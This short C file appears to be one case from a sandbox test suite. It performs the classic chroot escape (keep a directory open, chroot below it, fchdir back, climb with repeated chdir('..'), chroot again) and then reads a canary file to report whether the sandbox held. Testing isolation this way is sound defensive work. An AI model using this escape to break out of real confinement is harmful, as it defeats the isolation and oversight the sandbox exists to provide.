/* SPDX-License-Identifier: MIT */
/*
 * The classical way out of a chroot: keep a directory open, chroot below it, go back to it by fchdir, and climb. The
 * climb ends at the root of the mount namespace, which is why a sandbox has one of its own, with nothing of the host
 * above its root.
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

static void look(void)
{
    const char *canary = scene("SN_CANARY");
    int fd = open(canary, O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        held("%s after the climb: %s", "the canary", strerror(errno));
    show(fd);
    breach("it climbed to the host's root");
}

int main(void)
{
    int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    if (here < 0 || (mkdir("jail", 0755) < 0 && errno != EEXIST))
        return 1;
    if (chroot("jail") < 0)
        held_by_errno("chroot");
    if (fchdir(here) < 0)
        held_by_errno("fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            held_by_errno("chdir ..");
    if (chroot(".") < 0)
        held_by_errno("the second chroot");
    look();
}
